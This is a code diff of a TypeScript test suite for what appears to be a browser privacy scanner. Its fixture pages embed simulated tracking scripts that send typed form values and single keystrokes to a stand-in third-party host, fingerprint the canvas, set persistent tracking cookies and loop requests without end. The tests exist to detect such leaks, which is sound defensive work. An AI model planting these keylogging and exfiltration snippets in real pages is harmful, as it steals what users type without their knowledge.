@@ -38,6 +38,8 @@ const KEYS: Record<string, string> = {
   socket: `socket.send(value)`,
   own: `fetch('/neem', { method: 'POST', body: value })`,
 }
+/** What waits until nobody types for a while. */
+const LATER = `clearTimeout(window.later); window.later = setTimeout(() => navigator.sendBeacon('{other}/neem', value), 500)`
 const onType = (what: string, open = '') => `${open}addEventListener('input', ({ target: { value } }) => { ${what} })`
 const SCRIPTS: Record<string, string> = {
   '/canvas.js': `${CANVAS}${SEND}`,
@@ -55,6 +57,7 @@ const SCRIPTS: Record<string, string> = {
       onType(what, name === 'socket' ? `const socket = new WebSocket('{other}/lijn'.replace('http', 'ws'));` : ''),
     ]),
   ),
+  '/typ-later.js': onType(LATER),
   // Keys one by one.
   '/typ-los.js': `addEventListener('keydown', ({ key }) => navigator.sendBeacon('{other}/neem', JSON.stringify([key])))`,
   '/nummer.js': `document.cookie.includes('volg=') || (document.cookie = 'volg=' + crypto.randomUUID() + ';path=/;max-age=9999999')
@@ -86,8 +89,12 @@ const PAGES: Record<string, string> = {
       for (const target of ['hier', 'daar']) { form.target = target; form.submit() } })</script>`,
   '/verstuur-later': `${FORM}<script>addEventListener('input', () => setTimeout(() =>
     document.querySelector('form').submit(), 40))</script>`,
-  ...Object.fromEntries([...Object.keys(KEYS), 'los'].map((name) => [`/typ-${name}`, FORM + from(`typ-${name}`)])),
+  ...Object.fromEntries(
+    [...Object.keys(KEYS), 'los', 'later'].map((name) => [`/typ-${name}`, FORM + from(`typ-${name}`)]),
+  ),
   '/nummer': from('nummer', '{home}') + from('bank'),
+  // It never ends its asking.
+  '/vraagt-door': `<script>(function ask() { fetch('/neem').then(ask) })()</script>`,
   '/werker': `<iframe src="{other}/blijft"></iframe>`,
   '/werker-eigen': `<script>navigator.serviceWorker.register('/sw.js').catch(() => {})</script>`,
   '/blijft': `<script>navigator.serviceWorker.register('/sw.js').catch(() => {})</script>`,
@@ -167,13 +174,17 @@ afterAll(async () => {
   await site.close()
 })
 
-async function watched(path: string, next = path): Promise<Behaviour> {
+async function watched(
+  path: string,
+  next = path,
+  { budgetMs = 30_000, between = async () => undefined }: { budgetMs?: number; between?: () => Promise<void> } = {},
+): Promise<Behaviour> {
   const { seen } = await visit(browser, site.url(path), {
     probes: [],
+    budgetMs,
     walk: {
       tells: ['behaviour'],
-      go: (page, options, deadline) =>
-        watch(page, { ...options, next: [site.url(next)], between: async () => undefined }, deadline),
+      go: (page, options, deadline) => watch(page, { ...options, next: [site.url(next)], between }, deadline),
     },
   })
   if (!seen.behaviour?.seen) throw new Error(`not seen: ${JSON.stringify(seen.behaviour)}`)
@@ -226,6 +237,30 @@ test.each([
   const fields = ['email', 'tel', 'text'].map((field) => expect.objectContaining({ host, way, coding, field }))
   expect(typed?.leaks).toEqual(expect.arrayContaining(fields))
   expect(typed?.leaks.filter((leak) => leak.host !== host)).toEqual([])
+})
+
+test('what waits until nobody types any more goes out too, each time', { timeout: 60_000 }, async () => {
+  for (let time = 0; time < 4; time++) {
+    const { typed, lacks } = await watched('/typ-later')
+    // One wait for all fields: only the last of what was typed.
+    expect([typed?.leaks.map(({ host, field }) => [host, field]), lacks]).toEqual([[[OTHER, 'tel']], {}])
+  }
+})
+
+test('what the first page lacked is not forgotten when the next one is whole', async () => {
+  const { lacks } = await watched('/vraagt-door', '/typ-own')
+  expect(lacks).toMatchObject({ requests: ['busy'], content: ['busy'], storage: ['busy'] })
+  expect((await watched('/typ-own')).lacks).toEqual({})
+})
+
+test('when time is up, what was seen until then is told, with what it lacks', async () => {
+  const never = () => new Promise<void>(() => undefined)
+  const { scripts, ...rest } = await watched('/canvas', '/typ-post', { budgetMs: 14_000, between: never })
+  expect(scripts).toMatchObject([{ host: OTHER, reads: ['canvas'], sent: true }])
+  const cut = ['cut']
+  const nothing = { uploads: [], typed: null, identifiers: null, tags: null }
+  expect(rest).toMatchObject({ pages: [site.url('/canvas')], ...nothing })
+  expect(rest.lacks).toEqual({ requests: cut, content: cut, storage: cut })
 })
 
 test('nothing is sent, whatever a script makes of what is typed', async () => {
